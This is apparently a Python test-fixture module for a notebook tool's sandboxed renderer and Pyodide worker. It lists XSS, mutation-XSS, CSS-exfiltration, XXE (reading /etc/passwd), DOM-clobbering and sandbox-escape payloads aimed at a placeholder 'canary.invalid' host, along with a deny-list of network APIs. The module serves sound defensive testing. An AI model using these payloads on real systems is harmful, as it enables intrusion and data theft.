"""What somebody might try against a reader, as data: each must leave the page as it was and send nothing.

`CANARY` stands for the address of a server that nobody may reach; `harm()` in markup would be the page's.
"""

# ruff: noqa: E501 (what is tried is easier to read in one line)

from __future__ import annotations

CANARY = "http://canary.invalid"

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

HTML = {
    "script": f"<script>harm()</script><script src='{CANARY}/s.js'></script>",
    "module script": f"<script type=module>import '{CANARY}/m.js'</script>",
    "image with a handler": "<img src=x onerror=harm()>",
    "image from elsewhere": f"<img src='{CANARY}/i.png' srcset='{CANARY}/2.png 2x'>",
    "picture": f"<picture><source srcset='{CANARY}/p.png'><img src='data:image/png;base64,{PIXEL}'></picture>",
    "script in SVG": "<svg><script>harm()</script><animate onbegin=harm() attributeName=x dur=1s></svg>",
    "SVG with a handler": "<svg onload=harm()><image href=x onerror=harm() /></svg>",
    "SVG that uses a file": f"<svg><use href='{CANARY}/u.svg#x'/><image href='{CANARY}/v.png'/></svg>",
    "SVG with a link": "<svg><a xlink:href='javascript:harm()'><text y=20>click</text></a></svg>",
    "foreignObject": "<svg><foreignObject><img src=x onerror=harm()></foreignObject></svg>",
    "javascript link": "<a href='javascript:harm()'>click</a>",
    "javascript link in disguise": "<a href='&#1;java\tscript&colon;harm()'>click</a>",
    "data link": "<a href='data:text/html,<script>opener.harm()</script>'>click</a>",
    "ping": f"<a href='#main' ping='{CANARY}/ping'>click</a>",
    "base": f"<base href='{CANARY}/'><base target=_blank>",
    "refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/r'>",
    "looser policy": "<meta http-equiv=Content-Security-Policy content='script-src *'><img src=x onerror=harm()>",
    "style sheet": f"<link rel=stylesheet href='{CANARY}/l.css'><style>@import '{CANARY}/i.css';</style>",
    "prefetch": f"<link rel=prefetch href='{CANARY}/pf'><link rel=dns-prefetch href='{CANARY}'>"
    f"<link rel=preconnect href='{CANARY}'><link rel=modulepreload href='{CANARY}/mp.js'>",
    "exfiltration by CSS": f"<style>a[href^=h] {{ background: url({CANARY}/css) }}</style>"
    f"<p style='background: url({CANARY}/attr)'>x</p><table background='{CANARY}/bg'><td>x</table>",
    "font": f"<style>@font-face {{ font-family: f; src: url({CANARY}/f) }} * {{ font-family: f }}</style>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:red'>overlay</div>",
    "overlay by class": "<div class='skip-link cm-tooltip site-header' id=main>overlay</div>",
    "form": f"<form action='{CANARY}/form'><input name=a value=b autofocus onfocus=harm()><button>go</button></form>",
    "form by button": f"<button formaction='{CANARY}/f' form=x>go</button><isindex action=javascript:harm()>",
    "frames": f"<iframe src='{CANARY}/f'></iframe><iframe srcdoc='<script>parent.harm()</script>'></iframe>",
    "frame without sandbox": "<iframe src='javascript:parent.harm()'></iframe><frameset onload=harm()>",
    "objects": f"<object data='{CANARY}/o'></object><embed src='{CANARY}/e'><applet code=x></applet>",
    "media": f"<video src='{CANARY}/v' autoplay onerror=harm()></video><audio src='{CANARY}/a'></audio>"
    f"<video poster='{CANARY}/poster'><track src='{CANARY}/t'></video>",
    "details": "<details open ontoggle=harm()>x</details><marquee onstart=harm()>x</marquee>",
    "template": "<template><img src=x onerror=harm()></template><template shadowrootmode=open><script>harm()"
    "</script></template>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=harm()>"></noscript>',
    "mutation by MathML": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=harm()&gt;'></table></mtext></math>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=harm()>",
    "mutation by SVG": "<svg></p><style><a id='</style><img src=x onerror=harm()>'>",
    "MathML link": "<math><maction actiontype=statusline xlink:href='javascript:harm()'>click</maction></math>"
    "<math href='javascript:harm()'><mi>x</mi></math>",
    "clobbering": "<a id=gradus-config name=body></a><img name=getElementById><form id=document><input name=body>",
    "unclosed": "<div><p><b><a href='#main'><table><img src=x onerror=harm() ",
    "custom element": '<gradus-cell id="cell-evil" cell="evil"><script type="application/json">{}</script></gradus-cell>',
    "deeply nested": "<div>" * 5000 + "<img src=x onerror=harm()>",
    "target": f"<a href='{CANARY}/never-clicked' target=_top download>not clicked</a>",
}
"""`text/html` that a cell displays."""

SVG = {
    "script": "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.harm(); harm()</script></svg>",
    "handler": "<svg xmlns='http://www.w3.org/2000/svg' onload='top.harm()'><rect width='9' height='9'/></svg>",
    "files": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{CANARY}/i.png'/><use href='{CANARY}/u#x'/>"
    f"<style>@import url({CANARY}/c.css); rect {{ fill: url({CANARY}/f.svg#g) }}</style><rect width='9' "
    "height='9'/></svg>",
    "entities": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>"
    "<text>&x;</text></svg>",
    "foreign": f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    f"src='{CANARY}/fo'/></foreignObject></svg>",
    "quote": "'\"><img src=x onerror=harm()>",
}
"""`image/svg+xml` that a cell displays."""

EXPLANATION = "application/vnd.gradus.explanation+json"
BUNDLES = {
    "no data": "{}",
    "html that is no text": "{'text/html': {'a': [1, None]}}",
    "html as a list": "{'text/html': ['<img src=x ', 'onerror=harm()>', 3]}",
    "a type of its own": "{'text/x-script': 'harm()', 'application/javascript': 'harm()'}",
    "prototype": "{'__proto__': {'text/html': '<b>'}, 'constructor': 'x', 'text/plain': 'x'}",
    "damaged picture": "{'image/png': 'not base64 <img src=x onerror=harm()>'}",
    "a page as a picture": "{'image/png': 'x', 'image/jpeg': '\"><script>harm()</script>'}",
    "enormous picture": "{'image/png': 'A' * 3_000_000}",
    "enormous link": "{'text/html': '<a href=\"data:text/html,' + 'A' * 3_000_000 + '\">x</a>'}",
    "enormous SVG": '{\'image/svg+xml\': \'<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>\'}',
    "latex": r"{'text/latex': r'\href{javascript:harm()}{x} \includegraphics{x} \html{<img src=x onerror=harm()>}'}",
    "markdown": "{'text/markdown': '[x](javascript:harm()) <img src=x onerror=harm()>'}",
    "explanation that is none": f"{{'{EXPLANATION}': 'harm()'}}",
    "explanation without parts": f"{{'{EXPLANATION}': {{'title': None, 'hints': 3}}}}",
    "explanation with markup": f"{{'{EXPLANATION}': {{'title': '<img src=x onerror=harm()>', 'hints': "
    "['<script>harm()</script>'], 'values': [{'name': '<b>', 'text': '<svg onload=harm()>'}], 'drawing': None, "
    "'location': {'cell': 'no such', 'line': -1}, 'about': 'result'}}",
}
"""MIME bundles as Python expressions; each is displayed as it is."""

OUTPUTS = {
    "not an object": "3",
    "unknown type": '{"output_type": "harm", "data": {"text/html": "<img src=x onerror=harm()>"}}',
    "display without data": '{"output_type": "display_data"}',
    "metadata of another kind": '{"output_type": "display_data", "data": {"image/png": "x"}, "metadata": 7}',
    "error without traceback": '{"output_type": "error", "ename": {}, "evalue": null}',
    "stream of another kind": '{"output_type": "stream", "name": "<b>", "text": {"a": 1}}',
}
"""What a program that has got hold of the kernel's way to the page may send there, as JSON."""

GONE = [
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "WebSocketStream",
    "WebTransport",
    "EventSource",
    "importScripts",
    "Worker",
    "SharedWorker",
    "BroadcastChannel",
    "indexedDB",
    "IDBFactory",
    "caches",
    "CacheStorage",
    "postMessage",
    "navigator.sendBeacon",
    "navigator.storage",
    "navigator.locks",
    "navigator.serviceWorker",
    "navigator.gpu",
    "navigator.usb",
    "RTCPeerConnection",
    "FontFace",
    "FileSystemHandle",
    "FileReaderSync",
    "Notification",
    "document",
    "window",
    "localStorage",
    "sessionStorage",
    "cookieStore",
    "OffscreenCanvas",
    "Image",
]
"""What a program finds nowhere: neither in the scope nor on its prototypes."""

PROGRAMS = {
    "eval": f"js.eval(\"fetch('{CANARY}/eval')\")",
    "Function": f"js.Function.new(\"return fetch('{CANARY}/function')\")()",
    "Function by way of others": "js.Object.getPrototypeOf(js.parseInt).constructor.new('return self.fetch')()",
    "run_js": f"import pyodide.code\npyodide.code.run_js(\"import('{CANARY}/run.js')\")",
    "timer with a text": f"js.setTimeout(\"import('{CANARY}/timer.js')\", 0)",
    "pyfetch": f"import pyodide.http\nawait pyodide.http.pyfetch('{CANARY}/pyfetch')",
    "open_url": f"import pyodide.http\npyodide.http.open_url('{CANARY}/open')",
    "pyxhr": f"from pyodide.http import pyxhr\npyxhr.get('{CANARY}/pyxhr')",
    "urllib": f"import urllib.request\nurllib.request.urlopen('{CANARY}/urllib', timeout=1)",
    "http.client": f"import http.client\nhttp.client.HTTPConnection('{CANARY[7:]}', timeout=1).request('GET', '/h')",
    "socket": f"import socket\nhost, _, port = '{CANARY[7:]}'.partition(':')\n"
    "socket.create_connection((host, int(port)), 1).send(b'x')",
    "loadPackage": f"import pyodide_js\nawait pyodide_js.loadPackage('{CANARY}/evil-1.0-py3-none-any.whl')",
    "emscripten's module": f"import pyodide_js\npyodide_js._module.readAsync('{CANARY}/module')",
    "streaming WebAssembly": f"await js.WebAssembly.compileStreaming(js.Response.new('{CANARY}'))",
    "request object": f"await js.Request.new('{CANARY}/request').text()",
    "forged message to the worker": "js.dispatchEvent(js.MessageEvent.new('message', data=js.JSON.parse("
    f'\'{{"type": "start", "runtime": {{"runtime": "{CANARY}/", "kernel": "{CANARY}/k", '
    '"packages": [], "files": []}}\')))',
    "forged run": "js.dispatchEvent(js.MessageEvent.new('message', data=js.JSON.parse("
    '\'{"type": "run", "id": 999, "request": {}}\')))',
    "new names for old things": "js.Object.assign(js.globalThis, js.navigator.constructor.new())\njs.navigator.storage",
}
"""Python that tries to send something, or to get at something; `js` is imported. It may fail, and must send nothing."""

SEARCH = f"""
import js
from pyodide.ffi import JsProxy
names = set({[name for name in GONE if "." not in name]!r})
for name in names | set({[name for name in GONE if "." in name]!r}):
    value = js.globalThis
    for part in name.split("."):
        value = getattr(value, part, None)
    assert value is None, name

# Everything that can be reached from the scope, prototypes and accessors included.
seen, open_, reached = js.Set.new(), [js.globalThis], 0
# Between ports that a program makes itself; and a proxy of this would be awaited.
seen.add(js.MessagePort.prototype.postMessage)
seen.add(js.Promise.prototype)
own = lambda each: js.Reflect.ownKeys(each)
while open_ and reached < 20_000:
    owner = open_.pop()
    if seen.has(owner) or js.ArrayBuffer.isView(owner):
        continue
    seen.add(owner)
    reached += 1
    if owner is not js.globalThis and owner.typeof == "function":
        assert owner.name not in names, owner.name
    found = [js.Object.getPrototypeOf(owner)]
    for key in own(owner):
        try:
            described = js.Reflect.getOwnPropertyDescriptor(owner, key)
            found += [getattr(described, way, None) for way in ("value", "get", "set")]
        except Exception:
            continue
    open_ += [each for each in found if isinstance(each, JsProxy) and each.typeof in ("object", "function")]
assert reached > 500, reached
"""
"""Python that ends without an error only if it finds none of what is gone."""
